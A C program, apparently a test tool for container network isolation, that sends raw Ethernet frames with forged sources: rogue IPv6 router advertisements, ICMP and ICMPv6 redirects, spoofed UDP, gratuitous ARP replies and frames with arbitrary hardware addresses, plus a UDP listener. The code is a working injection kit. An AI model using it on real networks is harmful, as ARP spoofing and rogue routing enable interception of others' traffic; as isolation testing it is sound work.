/*
 * What a container with CAP_NET_RAW can put on its cable: whole frames, with
 * whichever address they are said to come from.
 *
 *     attack-network ra LINK              a router advertisement of IPv6
 *     attack-network redirect6 LINK FROM TO FOR    FOR is reached by way of TO
 *     attack-network redirect LINK FROM HOST TO FOR    the same of IPv4
 *     attack-network udp LINK FROM TO PORT TEXT
 *     attack-network arp LINK ADDRESS     ADDRESS is here
 *     attack-network frame LINK HARDWARE  a frame from this hardware address
 *     attack-network listen PORT          prints each datagram that comes
 */
#include <arpa/inet.h>
#include <err.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned char frame[1500];
static size_t length;
static unsigned char everybody[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
static unsigned char all_nodes[6] = { 0x33, 0x33, 0, 0, 0, 1 };
static unsigned char here[6]; /* the link's hardware address */

static void *
put(const void *bytes, size_t size)
{
	void *place = frame + length;

	if (bytes != NULL)
		memcpy(place, bytes, size);
	length += size;
	return place;
}

static unsigned int
sum(const void *bytes, size_t size, unsigned int so_far)
{
	const unsigned char *b = bytes;

	for (size_t i = 0; i < size; i++)
		so_far += i % 2 == 0 ? b[i] << 8 : b[i];
	return so_far;
}

static unsigned short
folded(unsigned int total)
{
	while (total >> 16 != 0)
		total = (total & 0xffff) + (total >> 16);
	return htons(~total);
}

static int
open_link(const char *name, struct sockaddr_ll *link)
{
	struct ifreq request = { 0 };
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	strncpy(request.ifr_name, name, IFNAMSIZ - 1);
	if (fd == -1 || ioctl(fd, SIOCGIFHWADDR, &request) == -1)
		err(1, "%s", name);
	memcpy(here, request.ifr_hwaddr.sa_data, 6);
	*link = (struct sockaddr_ll){ .sll_family = AF_PACKET,
		.sll_ifindex = if_nametoindex(name) };
	return fd;
}

static void
begin(const unsigned char to[6], const unsigned char from[6], int type)
{
	struct ether_header header = { .ether_type = htons(type) };

	memcpy(header.ether_dhost, to, 6);
	memcpy(header.ether_shost, from, 6);
	put(&header, sizeof(header));
}

static struct in_addr
ipv4(const char *text)
{
	struct in_addr address;

	if (inet_pton(AF_INET, text, &address) != 1)
		errx(1, "%s: not an address", text);
	return address;
}

static struct in6_addr
ipv6(const char *text)
{
	struct in6_addr address;

	if (inet_pton(AF_INET6, text, &address) != 1)
		errx(1, "%s: not an address", text);
	return address;
}

static void
put_ip(const char *from, const char *to, int protocol, size_t size)
{
	struct ip header = { .ip_v = 4,
		.ip_hl = 5,
		.ip_ttl = 64,
		.ip_len = htons(sizeof(header) + size),
		.ip_p = protocol,
		.ip_src = ipv4(from),
		.ip_dst = ipv4(to) };

	header.ip_sum = folded(sum(&header, sizeof(header), 0));
	put(&header, sizeof(header));
}

/* IPv6 and ICMPv6, whose checksum knows the addresses, too. */
static void
put_icmp6(const char *from, const char *to, void *message, size_t size)
{
	struct ip6_hdr header = { .ip6_flow = htonl(6 << 28),
		.ip6_plen = htons(size),
		.ip6_nxt = IPPROTO_ICMPV6,
		.ip6_hlim = 255,
		.ip6_src = ipv6(from),
		.ip6_dst = ipv6(to) };
	unsigned int total = sum(&header.ip6_src, 32, size + IPPROTO_ICMPV6);

	((struct icmp6_hdr *)message)->icmp6_cksum =
	    folded(sum(message, size, total));
	put(&header, sizeof(header));
	put(message, size);
}

static void
make_ra(void)
{
	struct {
		struct nd_router_advert ra;
		struct nd_opt_prefix_info prefix;
	} m = { .ra.nd_ra_type = ND_ROUTER_ADVERT,
		.ra.nd_ra_curhoplimit = 64,
		.ra.nd_ra_router_lifetime = htons(1800),
		.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
		.prefix.nd_opt_pi_len = 4,
		.prefix.nd_opt_pi_prefix_len = 64,
		.prefix.nd_opt_pi_flags_reserved =
		    ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
		.prefix.nd_opt_pi_valid_time = htonl(3600),
		.prefix.nd_opt_pi_preferred_time = htonl(3600),
		.prefix.nd_opt_pi_prefix = ipv6("2001:db8:bad::") };

	begin(all_nodes, here, ETHERTYPE_IPV6);
	put_icmp6("fe80::bad", "ff02::1", &m, sizeof(m));
}

static void
make_redirect6(char *argv[])
{
	struct nd_redirect m = { .nd_rd_type = ND_REDIRECT,
		.nd_rd_target = ipv6(argv[1]),
		.nd_rd_dst = ipv6(argv[2]) };

	begin(all_nodes, here, ETHERTYPE_IPV6);
	put_icmp6(argv[0], "ff02::1", &m, sizeof(m));
}

/*
 * What is redirected is a ping's answer by the host: its first bytes are
 * quoted.
 */
static void
make_redirect(char *argv[])
{
	const char *from = argv[0], *host = argv[1], *to = argv[2];
	struct icmp redirect = { .icmp_type = ICMP_REDIRECT,
		.icmp_code = ICMP_REDIRECT_HOST,
		.icmp_gwaddr = ipv4(to) },
		    ping = { .icmp_type = ICMP_ECHOREPLY };

	begin(everybody, here, ETHERTYPE_IP);
	put_ip(from, host, IPPROTO_ICMP, 8 + 20 + 8);
	struct icmp *message = put(&redirect, 8);
	put_ip(host, argv[3], IPPROTO_ICMP, 8);
	put(&ping, 8);
	message->icmp_cksum = folded(sum(message, 8 + 20 + 8, 0));
}

static void
make_udp(char *argv[])
{
	const char *text = argv[3];
	struct udphdr header = { .uh_sport = htons(53),
		.uh_dport = htons(atoi(argv[2])),
		.uh_ulen = htons(sizeof(header) + strlen(text)) };

	begin(everybody, here, ETHERTYPE_IP);
	put_ip(argv[0], argv[1], IPPROTO_UDP, sizeof(header) + strlen(text));
	put(&header, sizeof(header)); /* a checksum of 0: none */
	put(text, strlen(text));
}

static void
make_arp(const char *address)
{
	struct in_addr number = ipv4(address);
	struct ether_arp arp = { .arp_hrd = htons(ARPHRD_ETHER),
		.arp_pro = htons(ETHERTYPE_IP),
		.arp_hln = 6,
		.arp_pln = 4,
		.arp_op = htons(ARPOP_REPLY) };

	memcpy(arp.arp_sha, here, 6);
	memcpy(arp.arp_tha, everybody, 6);
	memcpy(arp.arp_spa, &number, 4);
	memcpy(arp.arp_tpa, &number, 4);
	begin(everybody, here, ETHERTYPE_ARP);
	put(&arp, sizeof(arp));
}

static void
make_frame(const char *hardware)
{
	unsigned char from[6];

	if (sscanf(hardware, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", from, from + 1,
		from + 2, from + 3, from + 4, from + 5) != 6)
		errx(1, "%s: not a hardware address", hardware);
	begin(everybody, from, 0x88b5); /* for experiments */
	put("........................................", 46 - 6);
}

static _Noreturn void
print_all(const char *port)
{
	struct sockaddr_in name = { .sin_family = AF_INET,
		.sin_port = htons(atoi(port)) };
	char text[1500];
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (bind(fd, (void *)&name, sizeof(name)) == -1)
		err(1, "port %s", port);
	puts("ready");
	for (;;) {
		fflush(stdout);
		ssize_t n = recv(fd, text, sizeof(text), 0);
		if (n == -1)
			err(1, "recv");
		printf("%.*s\n", (int)n, text);
	}
}

int
main(int argc, char *argv[])
{
	const char *what = argc > 2 ? argv[1] : "";
	struct sockaddr_ll link;

	if (strcmp(what, "listen") == 0)
		print_all(argv[2]);
	if (argc < 3)
		errx(1, "what, and by which link?");
	int fd = open_link(argv[2], &link);
	if (strcmp(what, "ra") == 0)
		make_ra();
	else if (strcmp(what, "redirect6") == 0 && argc == 6)
		make_redirect6(argv + 3);
	else if (strcmp(what, "redirect") == 0 && argc == 7)
		make_redirect(argv + 3);
	else if (strcmp(what, "udp") == 0 && argc == 7)
		make_udp(argv + 3);
	else if (strcmp(what, "arp") == 0 && argc == 4)
		make_arp(argv[3]);
	else if (strcmp(what, "frame") == 0 && argc == 4)
		make_frame(argv[3]);
	else
		errx(1, "%s: not that, or not so", what);
	if (sendto(fd, frame, length, 0, (void *)&link, sizeof(link)) == -1)
		err(1, "sendto");
	return 0;
}
